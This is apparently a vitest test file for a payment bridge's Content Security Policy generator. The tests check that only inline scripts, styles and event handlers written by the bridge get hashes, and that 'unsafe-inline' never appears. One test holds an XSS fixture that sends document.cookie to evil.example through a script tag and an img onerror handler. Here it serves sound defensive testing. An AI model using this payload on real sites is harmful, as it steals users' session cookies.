import { createHash } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { inlineHandler, inlineScript, inlineStyle, pageCsp } from './page-security.js';

const hashOf = (s: string) => `'sha256-${createHash('sha256').update(s).digest('base64')}'`;

describe('page CSP', () => {
  it('allows exactly the inline scripts and styles the bridge wrote into the page, nothing inline otherwise', () => {
    const script = "document.getElementById('payease').submit();";
    const style = 'body{font-family:sans-serif}';
    const csp = pageCsp(
      `<html><head>${inlineStyle(style)}</head><body><form id="payease"></form>${inlineScript(script)}<script src="/a.js"></script></body></html>`,
    );
    expect(csp).toContain(`script-src 'self' ${hashOf(script)};`);
    expect(csp).toContain(`style-src 'self' ${hashOf(style)};`);
    expect(csp).toContain("frame-ancestors 'none'");
    expect(csp).toContain("default-src 'none'");
    expect(csp).not.toMatch(/unsafe-inline|unsafe-eval|unsafe-hashes/);
    // A page with no inline code allows none.
    expect(pageCsp('<p>hi</p>')).toContain("script-src 'self'; style-src 'self';");
  });

  it('gives no hash to inline code that reached the page without being written by the bridge (an injection)', () => {
    const ours = `var checkout = ${JSON.stringify({ id: 'chk_1' })};`;
    const injected = 'fetch("https://evil.example/?c="+document.cookie)';
    const html = `<h1>Shop</h1><p>${'<script>' + injected + '</script>'}</p><p style="x"><style>body{display:none}</style>
<img src=x onerror="${injected.replace(/"/g, '&quot;')}">${inlineScript(ours)}`;
    const csp = pageCsp(html);
    expect(csp).toContain(hashOf(ours));
    expect(csp).not.toContain(hashOf(injected));
    expect(csp).not.toContain(hashOf('body{display:none}'));
    expect(csp).not.toContain('unsafe-hashes');
    expect(csp).toContain("style-src 'self';");
  });

  it("an inline event handler (Alipay's auto-submitting form) is allowed by its hash only", () => {
    const csp = pageCsp(
      `<body onload="${inlineHandler('document.forms[0].submit()')}"><form method="post" action="https://gw.example/x?a=1&amp;b=2"></form></body>`,
    );
    expect(csp).toContain(`script-src 'self' 'unsafe-hashes' ${hashOf('document.forms[0].submit()')};`);
  });
});
